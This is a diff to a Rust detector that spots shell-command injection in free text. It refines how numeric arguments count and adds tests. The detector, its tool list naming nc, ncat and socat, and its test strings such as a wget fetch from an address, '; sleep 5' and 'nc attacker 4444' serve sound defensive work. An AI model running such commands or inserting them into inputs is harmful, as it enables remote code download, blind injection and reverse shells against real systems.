@@ -7,8 +7,9 @@
 //! and `$*` (nothing), and a path before the command (`/bin/cat`, `C:\Windows\System32\cmd.exe`).
 //!
 //! Prose has separators and command words too ("Tom & Jerry; cat lovers will like it"), so the arguments must
-//! look like a command's: none at all after a separator (`; id`), or an option, a path, a number, an address, a
-//! redirection, a variable or a glob among them, and no more than two plain words. The lexer is written here:
+//! look like a command's: none at all after a separator (`; id`), or an option, a path, a number (for a command
+//! that takes one: `sleep 5`), an address, a redirection, a variable or a glob among them, and no more than two
+//! plain words. The lexer is written here:
 //! the shell-parsing crates (`shell-words`, `shlex`) split a well-formed command line into words, while this must
 //! find commands anywhere in arbitrary text and never fail on it.
 
@@ -464,8 +465,8 @@ fn ifs_at(rest: &[u8]) -> Option<usize> {
 }
 
 /// The command, when `segment` is a command line: a command first (after environment assignments), with
-/// arguments shaped as a command's (an option, a path, a number, an address, a redirection, a variable, a glob,
-/// and at most two plain words). A listed command also counts written with evasions, or alone
+/// arguments shaped as a command's (an option, a path, a number for a command that takes one, an address, a
+/// redirection, a variable, a glob, and at most two plain words). A listed command also counts written with evasions, or alone
 /// `after_separator` (`; id`, `| whoami`); a lone word heading the value ("type", "find") is an ordinary value.
 fn command_line(segment: &Segment, after_separator: bool) -> Option<String> {
     let words = &segment.words;
@@ -473,9 +474,16 @@ fn command_line(segment: &Segment, after_separator: bool) -> Option<String> {
         .iter()
         .position(|w| !(w.contains(&b'=') && w.first().is_some_and(u8::is_ascii_alphabetic)))?;
     let args = &words[first + 1..];
-    let plain = args.iter().filter(|a| is_plain_word(a)).count();
+    let name = command_name(&words[first]);
+    // A number is an argument of a command that counts or waits (`sleep 5`, `kill 1`, `nc host 4444`); after
+    // any other word it is the number of prose ("ls 300 lexus", "java 17 download", "env 2024 report").
+    let numeric = name.is_some_and(|name| NUMERIC.contains(&name));
+    let plain = args
+        .iter()
+        .filter(|a| is_plain_word(a) || (!numeric && is_number(a)))
+        .count();
     let shaped = args.len() > plain && plain <= 2;
-    match command_name(&words[first]) {
+    match name {
         Some(name) => {
             let alone = args.is_empty() && after_separator;
             let evasive = segment.obfuscated.get(first) == Some(&true);
@@ -484,6 +492,21 @@ fn command_line(segment: &Segment, after_separator: bool) -> Option<String> {
         None => (after_separator && shaped && is_command_word(&words[first]))
             .then(|| String::from_utf8_lossy(&words[first]).into_owned()),
     }
+}
+
+/// The listed commands an attack gives a bare number: a delay (`sleep 5`, the blind injection's probe), a port
+/// (`nc attacker 4444`), a mode (`chmod 777 x`), an address in decimal (`ping 2130706433`).
+const NUMERIC: &[&str] = &[
+    "chmod", "nc", "ncat", "netcat", "ping", "sleep", "socat", "timeout",
+];
+
+/// A number as prose writes one: digits, with `.` or `,` between them (`300`, `3.5`, `1,000`).
+fn is_number(word: &[u8]) -> bool {
+    word.first().is_some_and(u8::is_ascii_digit)
+        && word.last().is_some_and(u8::is_ascii_digit)
+        && word
+            .iter()
+            .all(|&b| b.is_ascii_digit() || matches!(b, b'.' | b','))
 }
 
 /// A word that can name a program: a letter, then letters, digits, `-`, `_` and `.` (`ansible-galaxy`,
@@ -704,6 +727,12 @@ mod tests {
         assert!(found("system('echo cd /tmp;wget http://203.0.113.5/x -O p.txt')").is_some());
         assert!(found("; 'whoami'").is_some());
         assert_eq!(found("${user.name} logged in"), None);
+        // A number is a command's argument only where the command takes one.
+        assert_eq!(found("ls 300 lexus"), None);
+        assert_eq!(found("env 2024 report"), None);
+        assert_eq!(found("Net 30 days"), None);
+        assert!(found("; sleep 5").is_some());
+        assert!(found("nc attacker 4444").is_some());
         assert_eq!(
             found("To update run:\nsudo apt-get update && sudo apt-get upgrade"),
             None
